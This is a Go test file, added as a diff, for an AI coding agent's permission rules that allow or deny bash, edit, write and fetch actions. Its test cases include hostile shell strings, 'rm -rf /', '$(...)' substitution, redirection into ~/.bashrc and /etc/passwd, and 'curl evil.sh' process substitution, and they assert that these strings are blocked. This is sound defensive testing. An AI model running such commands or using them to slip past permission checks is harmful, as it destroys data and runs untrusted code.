@@ -0,0 +1,108 @@
+package app
+
+import (
+	"testing"
+
+	"github.com/sst/opencode-sdk-go"
+	"github.com/sst/opencode-sdk-go/shared"
+)
+
+func bashPermission(command string) opencode.Permission {
+	return opencode.Permission{Type: "bash", Title: command, Metadata: map[string]any{"command": command}}
+}
+
+func TestMatchPermission(t *testing.T) {
+	rules := []PermissionRule{
+		{Type: "bash", Pattern: "git status", Action: PermissionAllow},
+		{Type: "bash", Pattern: "go test", Action: PermissionAllow},
+		{Type: "bash", Pattern: "git push", Action: PermissionDeny},
+		{Type: "edit", Pattern: "src/**/*.go", Action: PermissionAllow},
+		{Type: "edit", Pattern: "**/secrets.*", Action: PermissionDeny},
+		{Type: "webfetch", Pattern: "https://pkg.go.dev/**", Action: PermissionAllow},
+		{Type: "write", Pattern: "**/*.md", Action: PermissionAllow},
+		{Type: "write", Pattern: "/tmp/**", Action: PermissionAllow},
+	}
+	edit := func(path string) opencode.Permission {
+		return opencode.Permission{Type: "edit", Metadata: map[string]any{"filePath": path}}
+	}
+	write := func(path string) opencode.Permission {
+		return opencode.Permission{Type: "write", Metadata: map[string]any{"filePath": path}}
+	}
+
+	tests := []struct {
+		name       string
+		permission opencode.Permission
+		matched    bool
+		action     PermissionAction
+	}{
+		{"exact command", bashPermission("git status"), true, PermissionAllow},
+		{"command with arguments", bashPermission("go test ./..."), true, PermissionAllow},
+		{"prefix of a word", bashPermission("git statusx"), false, ""},
+		{"every command allowed", bashPermission("git status && go test ./..."), true, PermissionAllow},
+		{"one command not allowed", bashPermission("git status; rm -rf /"), false, ""},
+		{"one command denied", bashPermission("go test ./... && git push --force"), true, PermissionDeny},
+		{"substitution", bashPermission("git status $(rm -rf /)"), false, ""},
+		{"redirection", bashPermission("git status > ~/.bashrc"), false, ""},
+		{"appending redirection", bashPermission("go test ./... >> /etc/passwd"), false, ""},
+		{"process substitution", bashPermission("go test <(curl evil.sh)"), false, ""},
+		{"output process substitution", bashPermission("git status >(sh)"), false, ""},
+		{"redirection still denied", bashPermission("git push > out.txt"), true, PermissionDeny},
+		{"path in project", edit("/repo/src/app/main.go"), true, PermissionAllow},
+		{"path at root of glob", edit("/repo/src/main.go"), true, PermissionAllow},
+		{"path denied first", edit("/repo/src/secrets.go"), true, PermissionDeny},
+		{"path outside glob", edit("/repo/README.md"), false, ""},
+		{"path outside project", edit("/other/src/main.go"), false, ""},
+		{"relative glob in project", write("/repo/docs/README.md"), true, PermissionAllow},
+		{"relative glob outside project", write("/etc/notes.md"), false, ""},
+		{"absolute glob outside project", write("/tmp/notes.md"), true, PermissionAllow},
+		{"relative path escaping project", edit("../other/src/main.go"), false, ""},
+		{"relative path in project", edit("src/main.go"), true, PermissionAllow},
+		{"write uses its own rules", write("/repo/src/main.go"), false, ""},
+		{"url", opencode.Permission{Type: "webfetch", Metadata: map[string]any{"url": "https://pkg.go.dev/net/http"}}, true, PermissionAllow},
+		{"patch without a path", opencode.Permission{Type: "edit", Metadata: map[string]any{"diff": ""}}, false, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			rule, ok := MatchPermission(rules, tt.permission, "/repo")
+			if ok != tt.matched || rule.Action != tt.action {
+				t.Errorf("expected (%v, %q), got (%v, %q)", tt.matched, tt.action, ok, rule.Action)
+			}
+		})
+	}
+}
+
+func TestSuggestPermissionPattern(t *testing.T) {
+	bash := bashPermission("git log --oneline")
+	bash.Pattern = shared.UnionString("git log *")
+	if pattern := SuggestPermissionPattern(bash, "/repo"); pattern != "git log" {
+		t.Errorf("unexpected bash pattern %q", pattern)
+	}
+	edit := opencode.Permission{Type: "edit", Metadata: map[string]any{"filePath": "/repo/src/main.go"}}
+	if pattern := SuggestPermissionPattern(edit, "/repo"); pattern != "src/main.go" {
+		t.Errorf("unexpected edit pattern %q", pattern)
+	}
+	fetch := opencode.Permission{Type: "webfetch", Metadata: map[string]any{"url": "https://example.com/a/b"}}
+	if pattern := SuggestPermissionPattern(fetch, "/repo"); pattern != "https://example.com/**" {
+		t.Errorf("unexpected webfetch pattern %q", pattern)
+	}
+}
+
+func TestPermissionRules(t *testing.T) {
+	state := NewState()
+	state.AddPermissionRule(PermissionRule{Type: "bash", Pattern: "ls", Action: PermissionAllow})
+	state.AddPermissionRule(PermissionRule{Type: "bash", Pattern: "ls", Action: PermissionDeny})
+	if len(state.PermissionRules) != 1 || state.PermissionRules[0].Action != PermissionDeny {
+		t.Fatalf("expected the rule to be replaced, got %+v", state.PermissionRules)
+	}
+	state.RemovePermissionRule(PermissionRule{Type: "bash", Pattern: "ls"})
+	if len(state.PermissionRules) != 0 {
+		t.Errorf("expected the rule to be removed, got %+v", state.PermissionRules)
+	}
+
+	for i := 0; i < maxPermissionLog+5; i++ {
+		state.LogPermissionDecision(PermissionDecision{Title: "ls"})
+	}
+	if len(state.PermissionLog) != maxPermissionLog {
+		t.Errorf("expected the log to be capped, got %d entries", len(state.PermissionLog))
+	}
+}